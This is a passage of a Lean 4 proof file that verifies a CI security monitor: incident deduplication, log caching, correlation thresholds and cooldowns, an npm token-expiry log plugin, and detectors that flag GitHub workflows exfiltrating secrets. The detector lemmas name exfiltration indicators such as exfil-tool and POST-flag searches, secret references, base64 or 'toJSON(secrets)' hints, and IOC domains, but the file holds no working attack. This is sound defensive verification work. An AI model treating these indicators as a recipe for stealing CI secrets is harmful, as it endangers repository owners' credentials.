    intro r hr
    have hc := (List.any_eq_false.mp h) r hr
    simp only [rowConflict, Bool.or_eq_true, decide_eq_true_eq] at hc
    push_neg at hc
    simp [hc.1.1]
  refine ⟨by simp [insert_incident, h], by simp [insert_incident, h], ?_, ?_, ?_⟩
  · simp [insert_incident, h, h2]
  · simp [insert_incident, h, h2]
  · simp only [insert_incident, h, Bool.false_eq_true, if_false]
    rw [List.countP_append, hcount]
    simp [hid]

/-- C10: A run-log cache hit returns the cached job list with no Forge API
call and no token-bucket mutation: the fetcher state (timestamps and cache)
is returned unchanged and the call counter is zero. -/
theorem fetch_run_logs_cache_hit (gh : LogsForge) (st : FetcherState)
    (owner repo : String) (run_id now : Int) (logs : List JobLog)
    (h : alistFind st.cache run_id = some logs) :
    fetch_run_logs gh st owner repo run_id now = (some logs, st, 0) ∧
    (fetch_run_logs gh st owner repo run_id now).2.1.timestamps =
      st.timestamps ∧
    (fetch_run_logs gh st owner repo run_id now).2.2 = 0 := by
  have main : fetch_run_logs gh st owner repo run_id now = (some logs, st, 0) := by
    simp [fetch_run_logs, h]
  exact ⟨main, by rw [main], by rw [main]⟩

/-- Witness for C1: the idempotence law at a concrete empty store and a
concrete GhostAction incident. -/
theorem insert_incident_idempotent_witness :
    (insert_incident [] c1inc).1 = true ∧
    (insert_incident (insert_incident [] c1inc).2 c1inc).1 = false := by
  have h := insert_incident_idempotent [] c1inc (by decide)
  exact ⟨h.1, h.2.2.1⟩

/-- Witness for C10: a cache hit on a concrete fetcher state returns the
cached partial job list and leaves the state untouched. -/
theorem fetch_run_logs_cache_hit_witness :
    fetch_run_logs c10gh c10st "org" "repo" 5 100 = (some c10logs, c10st, 0) :=
  (fetch_run_logs_cache_hit c10gh c10st "org" "repo" 5 100 c10logs (by decide)).1

/-! ### Association-list helper lemmas -/

theorem find?_alistSet {κ α : Type} [DecidableEq κ] (l : List (κ × α)) (k : κ)
    (v : α) : (alistSet l k v).find? (fun p => p.1 = k) = some (k, v) := by
  unfold alistSet
  by_cases h : l.any (fun p => decide (p.1 = k))
  · simp only [h, if_true]
    induction l with
    | nil => simp at h
    | cons p rest ih =>
      by_cases hp : p.1 = k
      · simp [List.find?_cons, hp]
      · have hr : rest.any (fun p => decide (p.1 = k)) = true := by
          simp only [List.any_cons, Bool.or_eq_true, decide_eq_true_eq] at h
          tauto
        simp [List.find?_cons, hp, ih hr]
  · have hany : l.any (fun p => decide (p.1 = k)) = false :=
      Bool.eq_false_iff.mpr h
    rw [hany, if_neg (by simp)]
    rw [List.find?_append]
    have hnone : l.find? (fun p => decide (p.1 = k)) = none := by
      rw [List.find?_eq_none]
      intro x hx
      have hx2 := List.any_eq_false.mp hany x hx
      simpa using hx2
    simp [hnone, List.find?_cons]

theorem alistGetD_set_self {κ α : Type} [DecidableEq κ] (l : List (κ × α))
    (k : κ) (v d : α) : alistGetD (alistSet l k v) k d = v := by
  unfold alistGetD
  rw [find?_alistSet]

theorem alistFind_set_self {κ α : Type} [DecidableEq κ] (l : List (κ × α))
    (k : κ) (v : α) : alistFind (alistSet l k v) k = some v := by
  unfold alistFind
  rw [find?_alistSet]
  rfl

/-! ### Correlator structural lemmas -/

theorem ingest_post_entries (st : CorrState) (m : SignalMatch)
    (repo owner : String) (occ : Option Int) (sid src : String) (now : Int) :
    (ingest st m repo owner occ sid src now).2.entries =
      alistSet st.entries m.signature
        ((alistGetD st.entries m.signature []).filter
          (fun e => decide (e.occurred_at ≥ now - st.window)) ++
         [{ repo_full_name := repo, owner := owner, occurred_at := occ.getD now,
            smatch := m, source_ids := sid }]) := by
  simp only [ingest]
  split
  · rfl
  · split
    · split
      · rfl
      · rfl
    · rfl

theorem ingest_post_params (st : CorrState) (m : SignalMatch)
    (repo owner : String) (occ : Option Int) (sid src : String) (now : Int) :
    (ingest st m repo owner occ sid src now).2.window = st.window ∧
    (ingest st m repo owner occ sid src now).2.min_repos = st.min_repos ∧
    (ingest st m repo owner occ sid src now).2.min_owners = st.min_owners ∧
    (ingest st m repo owner occ sid src now).2.cooldown = st.cooldown := by
  simp only [ingest]
  split
  · exact ⟨rfl, rfl, rfl, rfl⟩
  · split
    · split
      · exact ⟨rfl, rfl, rfl, rfl⟩
      · exact ⟨rfl, rfl, rfl, rfl⟩
    · exact ⟨rfl, rfl, rfl, rfl⟩

/-- C2: Threshold gating: `ingest` returns `none` whenever, after the new
entry is appended (i.e. on the signature's stored window in the post
state), the unique-repo count is below `min_repos` or the unique-owner
count is below `min_owners`; and in the concrete S1 run with defaults
(window 60, `min_repos` 5, `min_owners` 3, cooldown 30), five distinct
repos across three owners make the first four calls return `none` and the
fifth produce a bundle. -/
theorem correlator_threshold_gate :
    (∀ (st : CorrState) (m : SignalMatch) (repo owner : String)
        (occ : Option Int) (sid src : String) (now : Int),
      (((alistGetD (ingest st m repo owner occ sid src now).2.entries
            m.signature []).map (fun e => e.repo_full_name)).dedup.length <
          st.min_repos ∨
        ((alistGetD (ingest st m repo owner occ sid src now).2.entries
            m.signature []).map (fun e => e.owner)).dedup.length <
          st.min_owners) →
      (ingest st m repo owner occ sid src now).1 = none) ∧
    (s1r1.1 = none ∧ s1r2.1 = none ∧ s1r3.1 = none ∧ s1r4.1 = none ∧
      s1r5.1.isSome = true) := by
  constructor
  · intro st m repo owner occ sid src now h
    rw [ingest_post_entries, alistGetD_set_self] at h
    simp only [ingest]
    split
    · rfl
    · next hc =>
      exfalso
      apply hc
      simp only [Bool.or_eq_true, decide_eq_true_eq]
      exact h
  · exact ⟨rfl, rfl, rfl, rfl, rfl⟩

/-- Witness for C2: the gate applied to the first S1 ingest (a single repo
is below the 5-repo threshold), discharged concretely. -/
theorem correlator_threshold_gate_witness : s1r1.1 = none :=
  correlator_threshold_gate.1 s1c0 s1m "org-a/repo1" "org-a" (some 0) "sid"
    "live" 0 (by decide)

/-- C3: Cooldown suppression: an ingest less than `cooldown` after the
signature's last emission returns `none` even when the thresholds hold;
`last_emit` is set to `now` exactly when a bundle is emitted and is left
untouched otherwise; hence two ingests of one signature closer than the
cooldown never both emit. -/
theorem correlator_cooldown_suppression :
    (∀ (st : CorrState) (m : SignalMatch) (repo owner : String)
        (occ : Option Int) (sid src : String) (now t : Int),
      alistFind st.last_emit m.signature = some t →
      now - t < st.cooldown →
      (ingest st m repo owner occ sid src now).1 = none) ∧
    (∀ (st : CorrState) (m : SignalMatch) (repo owner : String)
        (occ : Option Int) (sid src : String) (now : Int),
      ((ingest st m repo owner occ sid src now).1.isSome = true →
        (ingest st m repo owner occ sid src now).2.last_emit =
          alistSet st.last_emit m.signature now) ∧
      ((ingest st m repo owner occ sid src now).1 = none →
        (ingest st m repo owner occ sid src now).2.last_emit =
          st.last_emit)) ∧
    (∀ (st : CorrState) (m m' : SignalMatch) (repo owner repo' owner' : String)
        (occ occ' : Option Int) (sid src sid' src' : String) (now now' : Int),
      m'.signature = m.signature →
      (ingest st m repo owner occ sid src now).1.isSome = true →
      now' - now < st.cooldown →
      (ingest (ingest st m repo owner occ sid src now).2 m' repo' owner'
        occ' sid' src' now').1 = none) := by
  have gate : ∀ (st : CorrState) (m : SignalMatch) (repo owner : String)
      (occ : Option Int) (sid src : String) (now t : Int),
      alistFind st.last_emit m.signature = some t →
      now - t < st.cooldown →
      (ingest st m repo owner occ sid src now).1 = none := by
    intro st m repo owner occ sid src now t h1 h2
    simp only [ingest]
    split
    · rfl
    · rw [h1]
      simp only [h2, if_true]
  have upd : ∀ (st : CorrState) (m : SignalMatch) (repo owner : String)
      (occ : Option Int) (sid src : String) (now : Int),
      ((ingest st m repo owner occ sid src now).1.isSome = true →
        (ingest st m repo owner occ sid src now).2.last_emit =
          alistSet st.last_emit m.signature now) ∧
      ((ingest st m repo owner occ sid src now).1 = none →
        (ingest st m repo owner occ sid src now).2.last_emit =
          st.last_emit) := by
    intro st m repo owner occ sid src now
    simp only [ingest]
    split
    · exact ⟨fun h => by simp at h, fun _ => rfl⟩
    · split
      · split
        · exact ⟨fun h => by simp at h, fun _ => rfl⟩
        · exact ⟨fun _ => rfl, fun h => by simp at h⟩
      · exact ⟨fun _ => rfl, fun h => by simp at h⟩
  refine ⟨gate, upd, ?_⟩
  intro st m m' repo owner repo' owner' occ occ' sid src sid' src' now now'
    hsig hemit hlt
  have hle : (ingest st m repo owner occ sid src now).2.last_emit =
      alistSet st.last_emit m.signature now := (upd st m repo owner occ sid src now).1 hemit
  have hfind : alistFind (ingest st m repo owner occ sid src now).2.last_emit
      m'.signature = some now := by
    rw [hle, hsig]
    exact alistFind_set_self _ _ _
  have hcool : (ingest st m repo owner occ sid src now).2.cooldown = st.cooldown :=
    (ingest_post_params st m repo owner occ sid src now).2.2.2
  exact gate _ m' repo' owner' occ' sid' src' now' now hfind (hcool ▸ hlt)

/-- Witness for C3: after the fifth S1 ingest emitted, a sixth ingest of
the same signature 10 minutes later is suppressed by the cooldown. -/
theorem correlator_cooldown_suppression_witness :
    (ingest s1r5.2 s1m "org-c/repo6" "org-c" (some 600) "sid" "live" 600).1 =
      none :=
  correlator_cooldown_suppression.2.2 s1r4.2 s1m s1m "org-b/repo5" "org-b"
    "org-c/repo6" "org-c" (some 0) (some 600) "sid" "live" "sid" "live" 0 600
    rfl rfl (by decide)

/-- Lines-level refinement: the plugin's scan loop is "first matching line
wins, with the tier of that line". -/
theorem npmFirstMatch_eq_spec (lines : List (List Char)) :
    npmFirstMatch lines = npmFirstMatchSpec lines := by
  induction lines with
  | nil => rfl
  | cons raw rest ih =>
    simp only [npmFirstMatch, npmFirstMatchSpec, List.find?_cons]
    by_cases he : (pyStrip raw).isEmpty
    · simp only [he, if_true]
      simp only [Bool.not_true, Bool.false_and]
      exact ih
    · by_cases hh : npmHighLine (pyStrip raw)
      · simp [he, hh]
      · by_cases hl : npmLowLine (pyStrip raw)
        · simp [he, hh, hl]
        · simp only [he, if_false, hh, hl]
          simp only [Bool.not_false, Bool.or_self, Bool.and_false]
          exact ih

/-- C7 counterexample: on a log whose first line is `npm ERR! code E401`
and whose second line is `access token expired or revoked`, a line matches
the 0.9-tier patterns yet `match` returns confidence 0.7 — refuting
"confidence 0.9 if any line matches" as stated. -/
theorem npm_plugin_tier_counterexample :
    (∃ raw ∈ pySplitlines c7log.data, npmHighLine (pyStrip raw) = true) ∧
    (npm_match c7ctx c7log).map (fun m => m.confidence) = some ((7 : Rat) / 10) ∧
    ((7 : Rat) / 10 ≠ (9 : Rat) / 10) := by
  refine ⟨by decide, by rfl, by norm_num⟩

/-- C7 (amended): the first non-empty line matching either tier wins and
contributes its own tier's confidence (0.9 for the expired/unable patterns,
else 0.7 for the E401 patterns); `matched_line` is that line normalised
(timestamp stripped, whitespace collapsed, at most 200 characters); the S5
log line yields confidence 0.7 with `matched_line` "npm ERR! code E401". -/
theorem npm_plugin_first_match (run_context : RunContext) (log_text : String) :
    (npm_match run_context log_text =
      match npmFirstMatchSpec (pySplitlines log_text.data) with
      | none => none
      | some (line, conf) =>
        if line.isEmpty then none
        else
          some
            { signature := "npm_auth_token_expired"
              evidence :=
                { matched_line := some (String.mk line)
                  job_name := run_context.job_name
                  step_name := run_context.step_name
                  run_id := some run_context.run_id }
              confidence := conf }) ∧
    (∀ m, npm_match run_context log_text = some m →
      m.signature = "npm_auth_token_expired" ∧
      (m.confidence = (9 : Rat) / 10 ∨ m.confidence = (7 : Rat) / 10) ∧
      ∀ s, m.evidence.matched_line = some s → s.length ≤ 200) ∧
    (npm_match c7ctx s5log).map (fun m => (m.evidence.matched_line, m.confidence)) =
      some (some "npm ERR! code E401", (7 : Rat) / 10) := by
  have hlen : ∀ l : List Char, (normalize_line l).length ≤ 200 := by
    intro l
    simp only [normalize_line]
    split
    · simp only [List.length_append, List.length_take, List.length_cons,
        List.length_nil]
      omega
    · omega
  have hrefine : npm_match run_context log_text =
      match npmFirstMatchSpec (pySplitlines log_text.data) with
      | none => none
      | some (line, conf) =>
        if line.isEmpty then none
        else
          some
            { signature := "npm_auth_token_expired"
              evidence :=
                { matched_line := some (String.mk line)
                  job_name := run_context.job_name
                  step_name := run_context.step_name
                  run_id := some run_context.run_id }
              confidence := conf } := by
    unfold npm_match
    rw [npmFirstMatch_eq_spec]
  refine ⟨hrefine, ?_, by rfl⟩
  intro m hm
  rw [hrefine] at hm
  rcases hspec : npmFirstMatchSpec (pySplitlines log_text.data) with _ | ⟨line, conf⟩
  · rw [hspec] at hm
    exact Option.noConfusion hm
  · rw [hspec] at hm
    by_cases he : line.isEmpty
    · simp [he] at hm
    · simp only [he, if_false, Bool.false_eq_true, Option.some.injEq] at hm
      subst hm
      have hconf : conf = (9 : Rat) / 10 ∨ conf = (7 : Rat) / 10 := by
        unfold npmFirstMatchSpec at hspec
        rcases hfind : (pySplitlines log_text.data).find? (fun raw =>
            let l := pyStrip raw
            !l.isEmpty && (npmHighLine l || npmLowLine l)) with _ | raw
        · rw [hfind] at hspec; exact Option.noConfusion hspec
        · rw [hfind] at hspec
          simp only [Option.some.injEq, Prod.mk.injEq] at hspec
          rcases hspec with ⟨_, hc⟩
          by_cases hhigh : npmHighLine (pyStrip raw)
          · left; rw [← hc]; simp [hhigh]
          · right; rw [← hc]; simp [hhigh]
      refine ⟨rfl, hconf, ?_⟩
      intro s hs
      simp only [Option.some.injEq] at hs
      subst hs
      unfold npmFirstMatchSpec at hspec
      rcases hfind : (pySplitlines log_text.data).find? (fun raw =>
          let l := pyStrip raw
          !l.isEmpty && (npmHighLine l || npmLowLine l)) with _ | raw
      · rw [hfind] at hspec; exact Option.noConfusion hspec
      · rw [hfind] at hspec
        simp only [Option.some.injEq, Prod.mk.injEq] at hspec
        rcases hspec with ⟨hl, _⟩
        have hsl : (String.mk line).length = line.length := rfl
        rw [hsl, ← hl]
        exact hlen _

/-- Witness for C7 (amended): the S5 log line matched concretely. -/
theorem npm_plugin_first_match_witness :
    s5match.signature = "npm_auth_token_expired" ∧
    (s5match.confidence = (9 : Rat) / 10 ∨ s5match.confidence = (7 : Rat) / 10) ∧
    (∀ s, s5match.evidence.matched_line = some s → s.length ≤ 200) :=
  (npm_plugin_first_match c7ctx s5log).2.1 s5match (by rfl)

/-! ### Detector inversion lemmas

Within this section the hash-derived id functions are made irreducible for
the elaborator (the kernel semantics are unchanged): the symbolic proofs
never need to evaluate a digest, and this keeps unification from unfolding
SHA-1 on symbolic keys. -/

section SealedIds

attribute [local irreducible] wx_stable_run_id sha1Hex hash_secret_name

theorem ghostEmitDecision_nil (thr : Nat) : ghostEmitDecision [] thr = none := rfl

set_option maxHeartbeats 1000000 in
/-- Characterisation of `detect_ghostaction_risk`: the incident list is
empty exactly when the emission decision over the fetched texts is `none`,
and every emitted incident carries the decision's severity and the stable
ids of its dedupe key. -/
theorem detect_ghost_spec (f : Forge) (ev : GEvent) (thr : Nat) (st : St) :
    ((detect_ghostaction_risk f ev thr st).1 = [] ↔
      ghostEmitDecision (ghostFetchedTexts f ev st) thr = none) ∧
    (∀ inc ∈ (detect_ghostaction_risk f ev thr st).1,
      some inc.conclusion = ghostEmitDecision (ghostFetchedTexts f ev st) thr ∧
      inc.incident_id = sha1Hex inc.dedupe_key ∧
      inc.run_id = wx_stable_run_id inc.dedupe_key) := by
  unfold detect_ghostaction_risk ghostFetchedTexts
  by_cases h1 : ev.type ≠ "PushEvent"
  · simp [h1, ghostEmitDecision_nil]
  · simp only [h1, if_false]
    rcases hr : repoSplit ev with _ | ⟨o, n, full⟩
    · simp [ghostEmitDecision_nil]
    · by_cases h2 : (ghostResolvePaths f full ev st).1.isEmpty
      · simp [h2, ghostEmitDecision_nil]
      · have h2f : (ghostResolvePaths f full ev st).1.isEmpty = false :=
          Bool.eq_false_iff.mpr h2
        simp only [h2f, Bool.false_eq_true, if_false]
        rcases hdec : ghostEmitDecision
            ((ghostTextsLoop f full (ghostResolvePaths f full ev st).1
              (ghostResolvePaths f full ev st).2 []).1) thr with _ | sev
        · simp [hdec]
        · simp only [hdec]
          constructor
          · constructor
            · intro hfalse
              exact absurd hfalse (by simp)
            · intro hnone
              exact Option.noConfusion hnone
          · intro inc hinc
            simp only [List.mem_singleton] at hinc
            subst hinc
            exact ⟨rfl, rfl, rfl⟩

/-- The assignment chain of the confidence ladder collapses to: high on an
IOC domain or the IOC workflow name; else medium on a non-empty overlap or
a base64/`toJSON(secrets)` hint; else low. -/
theorem persConfidence_eq (text : List Char) (known : List String) :
    persConfidence text known =
      (if (!((external_domains (urlFindAll text)).filter isIocDomain).isEmpty
          || containsSub iocWorkflowName.data text) then "high"
       else if (!(persOverlap text known).isEmpty ||
          (base64Search text || toJsonSecretsSearch text)) then "medium"
       else "low") := by
  cases hioc : (!((external_domains (urlFindAll text)).filter
      isIocDomain).isEmpty || containsSub iocWorkflowName.data text) <;>
    cases hbj : (base64Search text || toJsonSecretsSearch text) <;>
      cases hov : (!(persOverlap text known).isEmpty) <;>
        simp [persConfidence, hioc, hbj, hov]

/-- Inversion of the per-path body of the personalized detector: an
emitted incident implies the head text passed the exfil gate, and its
fields are the gate's computations (ids from the dedupe key, confidence by
the ladder, overlap counted against the known secrets). -/
theorem persProcessPath_inv (f : Forge) (full head : String)
    (a ca : Option String) (known : List String) (path : String) (st : St)
    (inc : PersIncident)
    (h : (persProcessPath f full head a ca known path st).1 = some inc) :
    ∃ t, f.contents full path head = some t ∧ t ≠ "" ∧
      exfilToolSearch t.data = true ∧ postFlagSearch t.data = true ∧
      urlFindAll t.data ≠ [] ∧
      (secretSearch t.data || toJsonSecretsSearch t.data) = true ∧
      inc.incident_id = sha1Hex inc.dedupe_key ∧
      inc.run_id = wx_stable_run_id inc.dedupe_key ∧
      inc.dedupe_key =
        "personalized_exfil:" ++ full ++ ":" ++ head ++ ":" ++ path ∧
      inc.repo_full_name = full ∧ inc.ev_sha = head ∧
      inc.ev_workflow_path = path ∧
      inc.ev_overlap_count = (persOverlap t.data known).length ∧
      inc.conclusion = inc.ev_confidence ∧
      inc.ev_confidence = persConfidence t.data known := by
  rcases hgw : get_workflow_text f full path head st with ⟨res, st2⟩
  rcases res with _ | t
  · simp [persProcessPath, hgw] at h
  · by_cases ht : t = ""
    · simp [persProcessPath, hgw, ht] at h
    · have hco : f.contents full path head = some t := by
        have h1 := congrArg Prod.fst hgw
        unfold get_workflow_text at h1
        by_cases hb2 : (stTake st).1
        · simpa [hb2] using h1
        · simp [hb2] at h1
      by_cases hX : (exfilToolSearch t.data && postFlagSearch t.data &&
          !(urlFindAll t.data).isEmpty &&
          (secretSearch t.data || toJsonSecretsSearch t.data)) = true
      · simp only [persProcessPath, hgw, ht, if_false, hX, Bool.not_true,
          Bool.false_eq_true, Option.some.injEq] at h
        have hand := hX
        simp only [Bool.and_eq_true] at hand
        obtain ⟨⟨⟨hg1, hg2⟩, hg3⟩, hg4⟩ := hand
        have hurl : urlFindAll t.data ≠ [] := by
          intro hnil
          rw [hnil] at hg3
          simp at hg3
        refine ⟨t, hco, ht, hg1, hg2, hurl, hg4, ?_⟩
        subst h
        refine ⟨rfl, ?_, rfl, rfl, rfl, rfl, rfl, rfl, rfl⟩
        have hdk : (persBuildIncident full head path a ca known t).dedupe_key =
            "personalized_exfil:" ++ full ++ ":" ++ head ++ ":" ++ path := rfl
        rw [hdk]
        rfl
      · have hXf : (exfilToolSearch t.data && postFlagSearch t.data &&
            !(urlFindAll t.data).isEmpty &&
            (secretSearch t.data || toJsonSecretsSearch t.data)) = false :=
          Bool.eq_false_iff.mpr hX
        simp [persProcessPath, hgw, ht, hXf] at h

/-- Membership in the personalized loop's result comes from the initial
accumulator or from one path's `persProcessPath` emission. -/
theorem persLoop_mem (f : Forge) (full head : String) (a ca : Option String)
    (known : List String) (paths : List String) (st : St)
    (acc : List PersIncident) (inc : PersIncident)
    (h : inc ∈ (persLoop f full head a ca known paths st acc).1) :
    inc ∈ acc ∨ ∃ (path : String) (st' : St),
      (persProcessPath f full head a ca known path st').1 = some inc ∧
      path ∈ paths := by
  induction paths generalizing st acc with
  | nil =>
    left
    simpa [persLoop] using h
  | cons p rest ih =>
    rcases hpp : (persProcessPath f full head a ca known p st).1 with _ | i
    · simp only [persLoop, hpp] at h
      rcases ih _ _ h with hacc | ⟨path, st', hsome, hmem⟩
      · exact Or.inl hacc
      · exact Or.inr ⟨path, st', hsome, List.mem_cons_of_mem _ hmem⟩
    · simp only [persLoop, hpp] at h
      rcases ih _ _ h with hacc | ⟨path, st', hsome, hmem⟩
      · rcases List.mem_append.mp hacc with hacc' | hone
        · exact Or.inl hacc'
        · simp only [List.mem_singleton] at hone
          subst hone
          exact Or.inr ⟨p, st, hpp, List.mem_cons_self _ _⟩
      · exact Or.inr ⟨path, st', hsome, List.mem_cons_of_mem _ hmem⟩

/-- Event-level inversion of the personalized detector: an emitted incident
requires a push event with both SHAs present, and comes from one changed
path processed against the known secrets collected at the base ref. -/
theorem detect_pers_inv (f : Forge) (ev : GEvent) (st : St)
    (inc : PersIncident)
    (h : inc ∈ (detect_personalized_exfiltration f ev st).1) :
    ev.type = "PushEvent" ∧
    ∃ (o n full head base : String) (st' : St) (path : String),
      repoSplit ev = some (o, n, full) ∧
      strTruthy ev.after = some head ∧ strTruthy ev.before = some base ∧
      path ∈ sortedSet (persResolvePaths f full ev st).1 ∧
      (persProcessPath f full head ev.actor_login ev.created_at
        (collect_known_secrets f full base (persResolvePaths f full ev st).2).1
        path st').1 = some inc := by
  unfold detect_personalized_exfiltration at h
  by_cases h1 : ev.type ≠ "PushEvent"
  · simp [h1] at h
  · simp only [h1, if_false] at h
    have htype : ev.type = "PushEvent" := by
      by_contra hc
      exact h1 hc
    refine ⟨htype, ?_⟩
    rcases hr : repoSplit ev with _ | ⟨o, n, full⟩
    · rw [hr] at h
      simp at h
    · rw [hr] at h
      by_cases h2 : (persResolvePaths f full ev st).1.isEmpty
      · simp [h2] at h
      · have h2f : (persResolvePaths f full ev st).1.isEmpty = false :=
          Bool.eq_false_iff.mpr h2
        simp only [h2f, Bool.false_eq_true, if_false] at h
        rcases ha : strTruthy ev.after with _ | head
        · rw [ha] at h
          simp at h
        · rw [ha] at h
          rcases hb : strTruthy ev.before with _ | base
          · rw [hb] at h
            simp at h
          · rw [hb] at h
            rcases persLoop_mem f full head ev.actor_login ev.created_at
                (collect_known_secrets f full base
                  (persResolvePaths f full ev st).2).1
                (sortedSet (persResolvePaths f full ev st).1)
                (collect_known_secrets f full base
                  (persResolvePaths f full ev st).2).2
                [] inc h with hacc | ⟨path, st', hsome, hmem⟩
            · simp at hacc
            · exact ⟨o, n, full, head, base, st', path, rfl, rfl, rfl, hmem, hsome⟩

end SealedIds

/-- C8: Stable id law: every detector incident's `incident_id` is the SHA-1
hex digest of its dedupe key and its `run_id` is `_stable_run_id` of the
same key (so two detections sharing a dedupe key share both ids); the two
`_stable_run_id` copies agree; and the derived run id is the negated low
63 bits of the digest — nonpositive always, strictly negative whenever
those bits are non-zero. -/
theorem stable_id_law :
    (∀ (f : Forge) (ev : GEvent) (thr : Nat) (st : St) (inc : GhostIncident),
      inc ∈ (detect_ghostaction_risk f ev thr st).1 →
      inc.incident_id = sha1Hex inc.dedupe_key ∧
      inc.run_id = wx_stable_run_id inc.dedupe_key) ∧
    (∀ (f : Forge) (ev : GEvent) (st : St) (inc : PersIncident),
      inc ∈ (detect_personalized_exfiltration f ev st).1 →
      inc.incident_id = sha1Hex inc.dedupe_key ∧
      inc.run_id = wx_stable_run_id inc.dedupe_key) ∧
    (∀ k : String, corr_stable_run_id k = wx_stable_run_id k) ∧
    (∀ k : String,
      wx_stable_run_id k = Int.negOfNat (sha1Low63 k) ∧
      wx_stable_run_id k ≤ 0 ∧ (sha1Low63 k ≠ 0 → wx_stable_run_id k < 0)) ∧
    (∀ (f : Forge) (ev : GEvent) (thr : Nat) (st : St)
        (f' : Forge) (ev' : GEvent) (thr' : Nat) (st' : St)
        (i i' : GhostIncident),
      i ∈ (detect_ghostaction_risk f ev thr st).1 →
      i' ∈ (detect_ghostaction_risk f' ev' thr' st').1 →
      i.dedupe_key = i'.dedupe_key →
      i.incident_id = i'.incident_id ∧ i.run_id = i'.run_id) := by
  have ghostIds : ∀ (f : Forge) (ev : GEvent) (thr : Nat) (st : St)
      (inc : GhostIncident), inc ∈ (detect_ghostaction_risk f ev thr st).1 →
      inc.incident_id = sha1Hex inc.dedupe_key ∧
      inc.run_id = wx_stable_run_id inc.dedupe_key := by
    intro f ev thr st inc h
    have := (detect_ghost_spec f ev thr st).2 inc h
    exact ⟨this.2.1, this.2.2⟩
  have persIds : ∀ (f : Forge) (ev : GEvent) (st : St) (inc : PersIncident),
      inc ∈ (detect_personalized_exfiltration f ev st).1 →
      inc.incident_id = sha1Hex inc.dedupe_key ∧
      inc.run_id = wx_stable_run_id inc.dedupe_key := by
    intro f ev st inc h
    rcases detect_pers_inv f ev st inc h with
      ⟨_, o, n, full, head, base, st', path, _, _, _, _, hsome⟩
    rcases persProcessPath_inv _ _ _ _ _ _ _ _ _ hsome with
      ⟨t, _, _, _, _, _, _, hid, hrid, _⟩
    exact ⟨hid, hrid⟩
  have formula : ∀ k : String,
      wx_stable_run_id k = Int.negOfNat (sha1Low63 k) ∧
      wx_stable_run_id k ≤ 0 ∧ (sha1Low63 k ≠ 0 → wx_stable_run_id k < 0) := by
    intro k
    have heq : wx_stable_run_id k = Int.negOfNat (sha1Low63 k) := rfl
    refine ⟨heq, ?_, ?_⟩
    · rw [heq]
      simp only [Int.negOfNat_eq, Int.ofNat_eq_coe]
      omega
    · intro hz
      rw [heq]
      simp only [Int.negOfNat_eq, Int.ofNat_eq_coe]
      omega
  refine ⟨ghostIds, persIds, fun k => rfl, formula, ?_⟩
  intro f ev thr st f' ev' thr' st' i i' hi hi' hdk
  have h1 := ghostIds f ev thr st i hi
  have h2 := ghostIds f' ev' thr' st' i' hi'
  rw [h1.1, h1.2, h2.1, h2.2, hdk]
  exact ⟨rfl, rfl⟩

/-- Witness for C8: the id derivation at the concrete GhostAction dedupe
key of the S2 scenario (low 63 bits non-zero, run id strictly negative). -/
theorem stable_id_law_witness :
    wx_stable_run_id "ghostaction:org/repo:abc123" < 0 :=
  (stable_id_law.2.2.2.1 "ghostaction:org/repo:abc123").2.2 (by decide)

/-- C4: GhostAction emission rule: over the fetched workflow texts, an
incident is emitted iff some indicator matched and (a `secrets.*` reference
was seen or the aggregate score reaches the threshold); the emitted
severity, stored as the incident's conclusion, is `critical` iff the score
is at least 80 and `high` otherwise. -/
theorem ghostaction_emission_rule :
    (∀ (texts : List String) (thr : Nat),
      ((ghostEmitDecision texts thr).isSome = true ↔
        (ghostIndicators texts ≠ [] ∧
          (ghostSecretCount texts > 0 ∨ ghostScore texts ≥ thr))) ∧
      (∀ sev, ghostEmitDecision texts thr = some sev →
        sev = (if ghostScore texts ≥ 80 then "critical" else "high"))) ∧
    (∀ (f : Forge) (ev : GEvent) (thr : Nat) (st : St),
      ((detect_ghostaction_risk f ev thr st).1 ≠ [] ↔
        (ghostEmitDecision (ghostFetchedTexts f ev st) thr).isSome = true) ∧
      (∀ inc ∈ (detect_ghostaction_risk f ev thr st).1,
        inc.conclusion =
          (if ghostScore (ghostFetchedTexts f ev st) ≥ 80 then "critical"
           else "high"))) := by
  have core : ∀ (texts : List String) (thr : Nat),
      ((ghostEmitDecision texts thr).isSome = true ↔
        (ghostIndicators texts ≠ [] ∧
          (ghostSecretCount texts > 0 ∨ ghostScore texts ≥ thr))) ∧
      (∀ sev, ghostEmitDecision texts thr = some sev →
        sev = (if ghostScore texts ≥ 80 then "critical" else "high")) := by
    intro texts thr
    unfold ghostEmitDecision
    by_cases hind : (ghostIndicators texts).isEmpty
    · constructor
      · simp only [hind, if_true, Option.isSome_none]
        constructor
        · intro hfalse
          exact absurd hfalse (by simp)
        · intro ⟨hne, _⟩
          exact absurd (List.isEmpty_iff.mp hind) hne
      · intro sev hsev
        rw [if_pos hind] at hsev
        exact Option.noConfusion hsev
    · have hne : ghostIndicators texts ≠ [] := by
        intro hnil
        rw [hnil] at hind
        exact hind rfl
      have hindf : (ghostIndicators texts).isEmpty = false :=
        Bool.eq_false_iff.mpr hind
      simp only [hindf, Bool.false_eq_true, if_false]
      by_cases hcond : (decide (ghostSecretCount texts > 0) ||
          decide (ghostScore texts ≥ thr)) = true
      · rw [if_pos hcond]
        have hcondP : ghostSecretCount texts > 0 ∨ ghostScore texts ≥ thr := by
          simpa using hcond
        constructor
        · simp [hne, hcondP]
        · intro sev hsev
          simp only [Option.some.injEq] at hsev
          exact hsev.symm
      · have hcf : (decide (ghostSecretCount texts > 0) ||
            decide (ghostScore texts ≥ thr)) = false := Bool.eq_false_iff.mpr hcond
        rw [hcf, if_neg (by simp)]
        have hcondP : ¬(ghostSecretCount texts > 0 ∨ ghostScore texts ≥ thr) := by
          intro hor
          apply hcond
          rcases hor with hh | hh
          · simp [hh]
          · simp [hh]
        constructor
        · simp [hcondP]
        · intro sev hsev
          exact Option.noConfusion hsev
  refine ⟨core, ?_⟩
  intro f ev thr st
  have hspec := detect_ghost_spec f ev thr st
  constructor
  · constructor
    · intro hne
      rcases hd : ghostEmitDecision (ghostFetchedTexts f ev st) thr with _ | sev
      · exact absurd (hspec.1.mpr hd) hne
      · simp [hd]
    · intro hsome hnil
      rw [hspec.1.mp hnil] at hsome
      simp at hsome
  · intro inc hmem
    have h2 := hspec.2 inc hmem
    exact (core (ghostFetchedTexts f ev st) thr).2 inc.conclusion h2.1.symm

/-- Witness for C4: the S2 push event emits (decision is `some`), checked
concretely through the full detector pipeline. -/
theorem ghostaction_emission_rule_witness :
    (detect_ghostaction_risk s2forge s2event 60 s2st).1 ≠ [] :=
  ((ghostaction_emission_rule.2 s2forge s2event 60 s2st).1).mpr (by decide)

